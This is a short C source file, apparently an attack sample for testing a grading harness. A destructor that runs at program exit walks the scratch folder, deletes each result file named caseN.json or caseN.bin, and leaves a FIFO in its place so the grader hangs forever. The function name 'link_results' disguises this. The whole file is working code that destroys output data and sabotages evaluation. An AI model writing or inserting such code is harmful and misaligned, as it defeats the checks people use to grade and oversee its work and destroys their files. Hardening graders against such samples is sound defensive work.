
// The attack: at its end, every result file (caseN.json, caseN.bin) in
// its scratch folder and below becomes a FIFO,
// where the grader, reading it, would wait forever.
#include <dirent.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>
#include <sys/stat.h>
static void link_results(const char *dir, int depth)
{
    char path[4096];
    DIR *d = depth < 2 ? opendir(dir) : NULL;
    for (struct dirent *e; d && (e = readdir(d));) {
        snprintf(path, sizeof path, "%s/%s", dir, e->d_name);
        size_t n = strlen(e->d_name);
        if (e->d_type == DT_DIR && e->d_name[0] != '.')
            link_results(path, depth + 1);
        else if (!strncmp(e->d_name, "case", 4) &&
                 (n > 5 && (!strcmp(e->d_name + n - 5, ".json") || !strcmp(e->d_name + n - 4, ".bin")))) {
            unlink(path);
            mkfifo(path, 0644);
        }
    }
    if (d)
        closedir(d);
}
__attribute__((destructor)) static void attack_end(void) { link_results(".", 0); }
